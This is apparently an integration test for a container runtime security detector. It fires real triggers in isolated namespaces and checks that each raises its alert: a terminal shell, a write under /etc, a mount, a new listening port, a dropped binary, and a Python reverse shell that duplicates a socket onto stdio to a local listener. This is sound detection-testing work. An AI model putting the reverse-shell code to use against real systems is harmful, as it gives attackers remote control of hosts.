/**
 * Real triggers under the real collector, through ingest, ClickHouse and the security watch into alerts.
 * Each trigger runs in a cgroup of its own laid out like a Docker container's, inside private mount and
 * network namespaces (`unshare`), and must raise exactly its rule: no other rule for that container.
 * Setup that would itself be a trigger (the tmpfs over /etc, the reverse shell's listener) runs in a helper
 * cgroup, whose alerts are not counted against anyone.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, readlinkSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { Cleanup, createCgroup, pythonPath, rootSkipReason, startCollector, startProc, type TestCgroup } from '../helpers/collector.ts';
import { startTestService, type TestService } from '../helpers/service.ts';

const cleanup = new Cleanup();
after(() => cleanup.run());

interface AlertState {
  labels: Record<string, string>;
  annotations: Record<string, string>;
  status: string;
}

const TRIGGERS = ['shell', 'reverse', 'etc', 'mount', 'listen', 'dropped'] as const;
type Trigger = (typeof TRIGGERS)[number];
const EXPECTED: Record<Trigger, string> = {
  shell: 'Terminal shell in container',
  reverse: 'Redirect STDOUT/STDIN to Network Connection in Container',
  etc: 'Write below etc',
  mount: 'Mount Launched in Container',
  listen: 'New listening port',
  dropped: 'Drop and execute new binary in container',
};

/** Private mount and network namespaces, loopback up, then `script` (a shell command line). */
const isolated = (script: string) => ['unshare', '--mount', '--net', '--propagation', 'private', '/bin/sh', '-c', `ip link set lo up && ${script}`];

describe('security: real triggers under the collector, each firing exactly its rule', { skip: rootSkipReason() }, () => {
  let svc: TestService;
  const containers = new Map<Trigger, { cg: TestCgroup; id: string }>();
  let helper: TestCgroup;
  let dir: string;

  const securityAlerts = async (): Promise<AlertState[]> => {
    const res = await fetch(`${svc.url}/api/v1/alerts`, { headers: svc.headers });
    assert.equal(res.status, 200);
    const body = (await res.json()) as { alerts: AlertState[] };
    return body.alerts.filter((a) => a.labels.detector === 'rootline-security');
  };
  const rulesFor = async (t: Trigger) => [...new Set((await securityAlerts()).filter((a) => a.labels.container_id === containers.get(t)!.id).map((a) => a.labels.alertname ?? ''))].sort();

  /** Waits for `t`'s rule, then for the watch to judge a few more seconds of events, and returns every rule that fired for `t`. */
  const fired = async (t: Trigger): Promise<string[]> => {
    const until = Date.now() + 30_000;
    while (!(await rulesFor(t)).includes(EXPECTED[t])) {
      if (Date.now() > until) assert.fail(`no '${EXPECTED[t]}' alert for the ${t} trigger within 30 s; fired: ${JSON.stringify(await securityAlerts())}`);
      await sleep(200);
    }
    const settled = Date.now() + 3000;
    while (svc.service.security!.watch.judgedAt < settled) await sleep(200);
    return rulesFor(t);
  };

  before(async () => {
    svc = await startTestService(cleanup, { ROOTLINE_ROLES: 'ingest,rca', ROOTLINE_WATCH: 'off', ROOTLINE_SECURITY_INTERVAL_MS: '250', ROOTLINE_SECURITY_LEARN_MS: '600000', ROOTLINE_SECURITY_TENANT: 'test' });
    dir = mkdtempSync(join(tmpdir(), 'rootline-sec-'));
    cleanup.after(() => rmSync(dir, { recursive: true, force: true }));
    const parent = createCgroup(cleanup, `rootline-test-${process.pid}-triggers`);
    helper = createCgroup(cleanup, 'helper', parent.path);
    for (const t of TRIGGERS) {
      const id = randomBytes(32).toString('hex');
      containers.set(t, { cg: createCgroup(cleanup, `docker-${id}.scope`, parent.path), id });
    }
    await startCollector(cleanup, { ingest: svc.url, token: svc.token, cgroups: [helper.path, ...[...containers.values()].map((c) => c.cg.path)] });
  });

  const run = async (t: Trigger, script: string) => {
    const p = startProc(cleanup, containers.get(t)!.cg.wrap(isolated(script)));
    assert.deepEqual(await p.done(), { code: 0, signal: null }, p.stderr());
    return p;
  };

  it('spawn a shell with a terminal', async () => {
    // `script` gives the shell a pseudo-terminal, as `kubectl exec -it` or `docker exec -it` would.
    await run('shell', "script -qec '/bin/sh -c \"exit 0\"' /dev/null");
    assert.deepEqual(await fired('shell'), [EXPECTED.shell]);
  });

  it('open a reverse shell to a local listener (dup2 onto stdio)', async () => {
    const python = await pythonPath();
    // The container waits in its namespaces; the listener joins its network namespace from the helper cgroup.
    const port = 40_000 + (process.pid % 20_000);
    const c = containers.get('reverse')!;
    const code = `import os, socket\ns = socket.create_connection(('127.0.0.1', ${port}))\nfor fd in (0, 1, 2): os.dup2(s.fileno(), fd)\nos.execv('/bin/sh', ['sh', '-c', 'echo pwned'])`;
    const shell = startProc(cleanup, c.cg.wrap(isolated(`read go && exec ${python} -c "${code.replace(/"/g, '\\"')}"`)));
    // unshare execs in place: once the pid's network namespace is not ours, the shell waits inside it.
    const ours = readlinkSync('/proc/self/ns/net');
    const netns = `/proc/${shell.pid}/ns/net`;
    for (let i = 0; i < 100 && readlinkSync(netns) === ours; i++) await sleep(50);
    assert.notEqual(readlinkSync(netns), ours, 'the trigger runs in a network namespace of its own');
    const listener = startProc(cleanup, helper.wrap(['nsenter', `--net=${netns}`, python, '-c',
      `import socket\nl = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); l.bind(('127.0.0.1', ${port})); l.listen()\nprint('{"ready":1}', flush=True)\nc, _ = l.accept(); print(c.recv(100).decode().strip(), flush=True)`]));
    await listener.json();
    shell.child.stdin!.write('go\n');
    assert.deepEqual(await shell.done(), { code: 0, signal: null }, shell.stderr());
    await listener.done();
    assert.match(listener.stdout(), /pwned/, 'the shell answered over the socket');
    assert.deepEqual(await fired('reverse'), [EXPECTED.reverse]);
  });

  it('write under a tmpfs-mounted /etc in a private mount namespace', async () => {
    // The helper mounts a tmpfs over /etc in a namespace of its own and waits; the trigger enters that mount
    // namespace (a fresh network namespace too) and writes there. The host's /etc is never touched.
    const mounter = startProc(cleanup, helper.wrap(['unshare', '--mount', '--propagation', 'private', '/bin/sh', '-c', 'mount -t tmpfs tmpfs /etc && echo \'{"ready":1}\' && exec sleep 60']));
    await mounter.json();
    const file = `/etc/rootline-trigger-${process.pid}`;
    const p = startProc(cleanup, containers.get('etc')!.cg.wrap(['nsenter', `--mount=/proc/${mounter.pid}/ns/mnt`, 'unshare', '--net', '/bin/sh', '-c', `echo x > ${file}`]));
    assert.deepEqual(await p.done(), { code: 0, signal: null }, p.stderr());
    assert.ok(!existsSync(file), 'the real /etc is untouched');
    assert.deepEqual(await fired('etc'), [EXPECTED.etc]);
    const a = (await securityAlerts()).find((x) => x.labels.container_id === containers.get('etc')!.id)!;
    assert.match(a.annotations.summary!, new RegExp(`file=${file}`));
    assert.equal(a.annotations.mitre_technique, 'T1098');
  });

  it('mount something', async () => {
    await run('mount', `mount -t tmpfs rootline-trigger ${dir}`);
    assert.deepEqual(await fired('mount'), [EXPECTED.mount]);
  });

  it('listen on a new port', async () => {
    const python = await pythonPath();
    await run('listen', `${python} -c "import socket, time; s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); time.sleep(0.3)"`);
    assert.deepEqual(await fired('listen'), [EXPECTED.listen]);
  });

  it('exec a binary written a moment before', async () => {
    const target = join(dir, 'dropped');
    await run('dropped', `cp /bin/true ${target} && ${target}`);
    assert.deepEqual(await fired('dropped'), [EXPECTED.dropped]);
    const a = (await securityAlerts()).find((x) => x.labels.container_id === containers.get('dropped')!.id)!;
    assert.match(a.annotations.summary!, /written_by=cp/);
    assert.equal(a.labels.severity, 'critical');
  });

  it('put the alerts into incidents', async () => {
    const res = await fetch(`${svc.url}/api/v1/incidents`, { headers: svc.headers });
    const body = (await res.json()) as { incidents: { alerts?: unknown[]; title?: string }[] };
    assert.ok(body.incidents.length > 0, 'security alerts open incidents like any other alert');
  });
});
